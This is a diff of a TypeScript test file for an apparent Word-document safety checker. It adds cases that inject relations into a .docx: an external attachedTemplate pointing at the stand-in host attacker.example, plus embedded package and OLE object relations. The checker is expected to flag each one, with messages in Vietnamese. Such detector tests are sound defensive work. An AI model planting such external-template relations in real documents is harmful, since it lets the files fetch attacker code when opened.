@@ -173,13 +173,13 @@ describe('the marks of a draft and of unverified points', () => {
 });
 
 describe('a file that could run, fetch or hide something', () => {
-  const relation = (target: string): Uint8Array =>
+  const relation = (type: string, target: string, mode: string): Uint8Array =>
     changed((entries) => ({
       ...entries,
       'word/_rels/document.xml.rels': strToU8(
         strFromU8(entries['word/_rels/document.xml.rels'] ?? new Uint8Array()).replace(
           '</Relationships>',
-          `<Relationship Id="rX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="${target}" TargetMode="External"/></Relationships>`,
+          `<Relationship Id="rX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}"${mode}/></Relationships>`,
         ),
       ),
     }));
@@ -205,8 +205,14 @@ describe('a file that could run, fetch or hide something', () => {
     ],
     [
       'a relation to outside',
-      relation('http://attacker.example/t.dotm'),
+      relation('attachedTemplate', 'http://attacker.example/t.dotm', ' TargetMode="External"'),
       'Tệp có liên kết ra ngoài (http://attacker.example/t.dotm)',
+    ],
+    ['an embedded file', relation('package', 'media/logo.png', ''), 'Tệp có macro hoặc đối tượng nhúng'],
+    [
+      'an object under another name',
+      relation('oleObject', 'media/logo.png', ''),
+      'Tệp có macro hoặc đối tượng nhúng',
     ],
     [
       'a doctype',
